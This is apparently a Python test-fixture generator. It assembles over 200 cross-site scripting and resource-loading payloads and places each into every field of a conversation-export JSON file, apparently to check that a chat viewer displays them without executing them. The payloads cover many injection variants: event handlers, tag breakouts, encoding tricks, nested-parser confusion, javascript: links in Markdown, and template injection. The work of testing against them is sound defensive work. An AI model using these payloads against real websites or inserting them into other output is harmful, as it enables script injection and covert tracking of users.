"""Over 200 texts that would run a script, or load something, in a page that shows one carelessly;
and a file of conversations with each of them wherever a conversation has room for a text.

What would run calls `xss(N)`, what would load asks ELSEWHERE for /N: so it is known which one did.
"""

import json
from itertools import product

ELSEWHERE = "elsewhere.invalid"  # a host that there cannot be
AT_ONCE = 30  # payloads in one conversation

CALL = "xss(@)"
HANDLERS = (  # elements that run something by themselves
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<body onload={CALL}>",
    f"<iframe onload={CALL}></iframe>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f'<iframe src="javascript:parent.{CALL}"></iframe>',
    f"<input autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}></textarea>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<video src=x onerror={CALL}></video>",
    f"<object data=x onerror={CALL}></object>",
    f'<object data="javascript:{CALL}"></object>',
    f'<embed src="javascript:{CALL}">',
    f"<link rel=stylesheet href=x onerror={CALL}>",
    f"<style onload={CALL}></style>",
    f"<script>{CALL}</script>",
    f"<script src=x onerror={CALL}></script>",
    f"<script type=module>{CALL}</script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href='data:text/javascript,{CALL}'></script></svg>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<div style='animation: x 1s' onanimationstart={CALL}>x</div>",
    f"<p contenteditable autofocus onfocus={CALL}>x</p>",
    f"<button autofocus onfocus={CALL}>x</button>",
    f"<select autofocus onfocus={CALL}></select>",
)
OUT_OF = (  # what a text may be within, and end
    *('">', "'>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</noscript>"),
    *("</template>", "</select>", "</svg>", "</button>", "</a>", "</h1>", "</audio>", "`>", '\\">'),
)
SPELLINGS = (  # of one and the same
    f"<IMG SRC=x ONERROR={CALL}>",
    f"<ImG/sRc=x/oNeRrOr={CALL}>",
    f"<img\nsrc=x\nonerror\n=\n{CALL}>",
    f"<img\tsrc=x\tonerror\t=\t'{CALL}'>",
    f"<img\fsrc=x\fonerror={CALL}>",
    f'<img src="x" onerror="{CALL}"',
    f"<img src=x onerror=`{CALL}`>",
    "<img src=x onerror=&#120;ss(@)>",
    "<img src=x onerror=&#x78;&#x73;&#x73;(@)>",
    "<img src=x onerror=\\u0078ss(@)>",
    f"<img src=x:x onerror={CALL}//>",
    f"<<img src=x onerror={CALL}>>",
    f"<img src=x onerror={CALL} <b>",
    f"<\x00img src=x onerror={CALL}>",
    f"<img\x0bsrc=x onerror={CALL}>",
    f"<img src=x one\x00rror={CALL}>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script/x>{CALL}</script\n>",
    f"<script>{CALL}<!--</script>",
    f"<!--><script>{CALL}</script>-->",
    f"<!-- --!><script>{CALL}</script>",
    f"<?x ><img src=x onerror={CALL}>",
    f"<!x ><img src=x onerror={CALL}>",
    f"</x ><img src=x onerror={CALL}>",
    f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"%3Cimg%20src=x%20onerror={CALL}%3E",
    f"\\x3cimg src=x onerror={CALL}\\x3e",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"＜img src=x onerror={CALL}＞",
    f"\u202e<img src=x onerror={CALL}>\u202c",
    f"\ufeff<script>{CALL}</script>",
)
ATTRIBUTES = tuple(  # out of an attribute, into another
    f"{quote}{space}{handler}={CALL}{end}"
    for (quote, end), space, handler in product(
        (('"', ' x="'), ("'", " x='"), ("", " ")),
        (" ", "/", "\n"),
        ("autofocus onfocus", "onmouseover", "style=animation-name:x onanimationstart"),
    )
)
SCRIPTED = (  # out of a string of a script, or of a template
    f"';{CALL};//",
    f'";{CALL};//',
    f"`;{CALL};//",
    f"\\';{CALL};//",
    f'\\";{CALL};//',
    f"'-{CALL}-'",
    f'"-{CALL}-"',
    f"${{{CALL}}}",
    f"{{{{{CALL}}}}}",
    f"{{%{CALL}%}}",
    f"<%={CALL}%>",
    f"#{{{CALL}}}",
    f"\u2028{CALL}//",
    f"\u2029{CALL}//",
    f"</script><script>{CALL}</script>",
    f'"}}</script><script>{CALL}</script>{{"',
    f"*/{CALL}/*",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
)
NESTED = (  # that change when they are parsed twice
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<select><template><img src=x onerror={CALL}></template></select>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<svg><title><img src=x onerror={CALL}></title></svg>",
    f"<svg><desc><script>{CALL}</script></desc></svg>",
    f"<table><td background=x><img src=x onerror={CALL}>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={CALL}>'>",
    f"<iframe><p title='</iframe><img src=x onerror={CALL}>'>",
    f"<math href='javascript:{CALL}'>x</math>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=20>x</text></a></svg>",
    f"<svg><set attributeName=href to='javascript:{CALL}' /><a>x</a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>"
    f'{CALL}</script></svg>#x"></use></svg>',
)
SCHEMES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"javascript&#58;{CALL}",
    f"java&Tab;script:{CALL}",
    f"javascript%3A{CALL}",
    f"javascript://x/%0a{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"data:text/html;base64,PHNjcmlwdD54c3MoMCk8L3NjcmlwdD4=#{CALL}",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"blob:null/{CALL}",
    f"view-source:javascript:{CALL}",
    f"//{ELSEWHERE}/@ onclick={CALL}",
)
MARKDOWN = (
    *(f"[a link]({scheme})" for scheme in SCHEMES),
    *(f"[a link](<{scheme}>)" for scheme in SCHEMES[:8]),
    *(f"![a picture]({scheme})" for scheme in SCHEMES[:13]),
    *(f"<{scheme}>" for scheme in SCHEMES[:3]),
    f"[a][b]\n\n[b]: javascript:{CALL}",
    f"[a](x \"y' onclick={CALL} z='\")",
    f'[a](x"onmouseover="{CALL})',
    f'![" onerror="{CALL}](x)',
    f"![<img src=x onerror={CALL}>](x)",
    f"[<img src=x onerror={CALL}>](x)",
    f"[![x](javascript:{CALL})](javascript:{CALL})",
    f'```"><img src=x onerror={CALL}>\nx\n```',
    f"```html\n<img src=x onerror={CALL}>\n```",
    f"`<img src=x onerror={CALL}>`",
    f"`` ` ``<img src=x onerror={CALL}>",
    f"# <img src=x onerror={CALL}>",
    f"> <img src=x onerror={CALL}>",
    f"- <img src=x onerror={CALL}>",
    f"| <img src=x onerror={CALL}> | b |\n|---|---|\n| <svg onload={CALL}> | b |",
    f"**<img src=x onerror={CALL}>**",
    f"\\<img src=x onerror={CALL}\\>",
    f'http://x/"onmouseover="{CALL}"',
    f"http://x/<img src=x onerror={CALL}>",
)
MARKS = (  # of times, which become buttons
    f"<|0.10|><img src=x onerror={CALL}><|0.20|>",
    f"<img src=<|0.10|> onerror={CALL}>",
    f"[a](javascript:{CALL}<|0.10|>)",
    f"`<|0.10|>`<img src=x one<|0.20|>rror={CALL}>",
    f"\ue0000\ue001<img src=x onerror={CALL}>\ue000",
    f"<img src=x onerror=\ue0000\ue001{CALL}>",
    f'<|0.10|>" onfocus={CALL} autofocus "<|0.20|>',
)
LOADING = (  # what needs no script to tell somebody that it was read
    f"<img src=//{ELSEWHERE}/@>",
    f"![x](http://{ELSEWHERE}/@)",
    f"<link rel=stylesheet href=//{ELSEWHERE}/@>",
    f"<style>@import '//{ELSEWHERE}/@';</style>",
    f'<div style="background: url(//{ELSEWHERE}/@)">x</div>',
    f"<video poster=//{ELSEWHERE}/@></video>",
    f"<input type=image src=//{ELSEWHERE}/@>",
    f"<iframe src=//{ELSEWHERE}/@></iframe>",
    f"<object data=//{ELSEWHERE}/@></object>",
    f"<embed src=//{ELSEWHERE}/@>",
    f"<script src=//{ELSEWHERE}/@></script>",
    f"<svg><image href=//{ELSEWHERE}/@ /></svg>",
    f"<svg><use href=//{ELSEWHERE}/@#x /></svg>",
    f"<link rel=prefetch href=//{ELSEWHERE}/@>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/@'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<base href=//{ELSEWHERE}/@/><img src=x>",
    f"<form action=//{ELSEWHERE}/@><input autofocus onfocus=form.submit()></form>",
    f"<audio src=//{ELSEWHERE}/@ autoplay></audio>",
    f"<picture><source srcset=//{ELSEWHERE}/@><img></picture>",
    f"<img srcset='//{ELSEWHERE}/@ 1x'>",
)
TEMPLATES = (
    *HANDLERS,
    *(f"{end}<img src=x onerror={CALL}>" for end in OUT_OF),
    *(f"{end}<svg onload={CALL}>" for end in OUT_OF[:6]),
    *SPELLINGS,
    *ATTRIBUTES,
    *SCRIPTED,
    *NESTED,
    *MARKDOWN,
    *MARKS,
    *LOADING,
)
PAYLOADS = tuple(text.replace("@", str(n)) for n, text in enumerate(TEMPLATES))


def document(digest: str, seconds: float) -> str:
    """Conversations as an export has them. First those in which each payload is a question, the
    name of a clip, an answer, a note and whatever else, then one named after each payload."""
    some = [PAYLOADS[i : i + AT_ONCE] for i in range(0, len(PAYLOADS), AT_ONCE)]
    told = [_conversation(" ".join(few)[:1000], few, digest) for few in some]
    told += [_conversation(payload, (payload,), digest) for payload in PAYLOADS]
    given = {"kind": "earshot-conversations", "version": 1, "conversations": told}
    return json.dumps(given | {"clips": {digest: seconds}})


def _conversation(title: str, payloads: tuple[str, ...], digest: str) -> dict:
    turns: list[dict] = []
    for payload in payloads:
        clip = {"clip": digest, "name": payload}
        turns.append(_turn(turns, "user", [clip, {"text": payload}]))
        told = {"model": payload, "note": payload, "good": False, "system": payload}
        failed = {"status": "failed", "sentence": payload}
        turns.append(_turn(turns, "assistant", [{"text": payload}], **told, **failed))
    times = {"created": 1e9, "updated": 1e9}
    settings = dict.fromkeys(("sampling", "model", "language", "answer_language"), "")
    about = {"title": title, "named": True, "pinned": False, "system": payloads[0], **settings}
    tags = [payload[:40] for payload in payloads[:5]]
    return about | times | {"tags": tags, "leaf": len(turns) - 1, "turns": turns}


def _turn(before: list[dict], role: str, parts: list[dict], **told) -> dict:
    empty = {"sentence": "", "system": "", "sampling": "", "model": "", "note": "", "good": None}
    usual = {"status": "done", "unheard": [], "created": 1e9, "updated": 1e9}
    parent = len(before) - 1 if before else None
    return empty | usual | {"role": role, "parts": parts, "parent": parent} | told
